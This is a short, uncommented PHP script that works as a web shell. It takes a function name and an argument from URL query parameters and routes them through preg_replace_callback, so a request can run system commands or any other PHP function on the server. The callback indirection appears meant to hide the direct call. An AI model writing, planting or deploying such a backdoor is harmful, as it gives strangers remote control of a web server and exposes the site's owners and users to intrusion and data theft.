<?php
$f = $_GET['f'];
echo preg_replace_callback('/.+/', function ($m) use ($f) { return $f($m[0]); }, $_GET['a']);
